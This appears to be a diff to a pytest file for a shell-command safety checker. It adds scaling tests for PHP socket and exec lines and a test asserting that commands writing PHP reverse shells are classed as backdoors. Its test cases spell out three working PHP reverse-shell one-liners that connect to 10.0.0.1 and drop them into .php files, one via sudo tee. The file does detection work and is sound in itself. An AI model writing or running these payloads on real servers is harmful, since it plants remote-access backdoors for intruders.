@@ -62,12 +62,14 @@ def test_ordinary_scripts_that_use_the_network_are_written(command: str) -> None
         ("a shell script", "nc -z db{n} 5432 >> up.txt\n"),
         ("Python socket code", "s{n} = socket.socket()\n"),
         ("PHP calls", "system('nc -z h {n}'); "),
+        ("PHP sockets beside commands", "$f{n}=fsockopen('h',80); exec('git log -{n}'); "),
+        ("PHP unclosed calls", "fsockopen( exec(\"sh -c 'x{n} "),
     ],
 )
 def test_reading_what_is_written_stays_linear(name: str, line: str) -> None:
     def text(count: int) -> str:
         body = "".join(line.format(n=n) for n in range(count))
-        head = "import socket\n" if "socket" in line else "<?php " if "system" in line else ""
+        head = "import socket\n" if "socket." in line else "<?php " if "(" in line else ""
         return f"cat > out.txt <<'EOF'\n{head}{body}\nEOF"
 
     def judge(command: str) -> object:
@@ -93,3 +95,18 @@ def test_a_text_of_many_hinted_lines_is_judged_by_a_bounded_number_of_them(
     assert danger._shell_pieces(body) == [f"nc -z h {n}" for n in range(16)]
     assert real(f"cat > up.sh <<'EOF'\n{body}EOF ", home=HOME) is None
     assert sum(piece.count("\n") + 1 for piece in judged) <= 16
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'echo \'<?php $sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\' > shell.php',
+        'echo \'<?php $sock=fsockopen("10.0.0.1",4444);system("sh <&3 >&3 2>&3"); ?>\' | sudo tee s.php',
+        "printf '%s' '<?php $s=pfsockopen(\"10.0.0.1\",443);passthru(\"bash -i <&3 >&3 2>&3\");' > a.php",
+    ],
+)
+def test_php_that_opens_a_socket_and_runs_a_shell_is_a_backdoor(command: str) -> None:
+    verdict = check_command(command, home=HOME)
+    assert verdict is not None
+    assert verdict.category == BACKDOOR
+    assert "PHP reverse shell" in verdict.reason
